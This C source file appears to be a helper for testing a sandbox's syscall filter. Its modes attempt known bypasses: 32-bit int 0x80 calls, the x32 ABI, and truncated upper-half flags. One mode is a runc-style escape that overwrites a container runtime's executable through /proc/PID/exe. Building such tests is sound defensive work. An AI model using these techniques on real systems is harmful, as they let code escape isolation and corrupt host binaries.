// Calls by another door: `calls ATTACK NAME [PID RUNTIME]`.
#include "hostile.h"
#include <elf.h>
#include <sys/prctl.h>

// The kernel's 32-bit table, reached from a 64-bit program.
static long int80(long number, long a, long b, long c, long d, long e) {
  long result;
  asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
  if (result < 0 && result > -4096) errno = -result, result = -1;
  return result;
}

static char description[256], kind[] = "user", payload[] = "x";

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  snprintf(description, sizeof description, "%s", argv[2]);
  if (IS("old-keys")) {
    step("add_key (i386)", int80(286, (long)kind, (long)description, (long)payload, 1, -4));
    hold();
  }
  if (IS("old-namespace")) {
    step("unshare (i386)", int80(310, 0x10000000, 0, 0, 0, 0));
    hold();
  }
  if (IS("x32-keys")) {
    step("add_key (x32)", syscall(0x40000000 | SYS_add_key, kind, description, payload, 1, -4));
    hold();
  }
  if (IS("upper-half")) {
    // The kernel takes 32 bits of these; a filter that compares 64 is passed by.
    long key = syscall(SYS_unshare, 0x1234567810000000UL);
    step("unshare", key);
    hold();
  }
  if (IS("replace-exe") && argc > 4) {
    // The program file of whoever holds the process: kept open by its link, written once nobody runs it.
    char link[64];
    snprintf(link, sizeof link, "/proc/%s/exe", argv[3]);
    int held = step(link, open(link, O_PATH));
    step("kill", kill(atoi(argv[3]), SIGKILL));
    snprintf(link, sizeof link, "/proc/self/fd/%d", held);
    for (int i = 0; i < 100; i++) {
      int fd = open(link, O_WRONLY);
      if (fd >= 0) {
        step("write", write(fd, "spoiled", 7));
        break;
      }
      usleep(20000);
    }
    printf("last: %s\n", strerror(errno));
    snprintf(link, sizeof link, "/proc/%d/exe", getppid());
    step(link, open(link, O_WRONLY));
    step(argv[4], open(argv[4], O_WRONLY | O_TRUNC));
  }
  if (IS("rights")) hold();
  return 0;
}
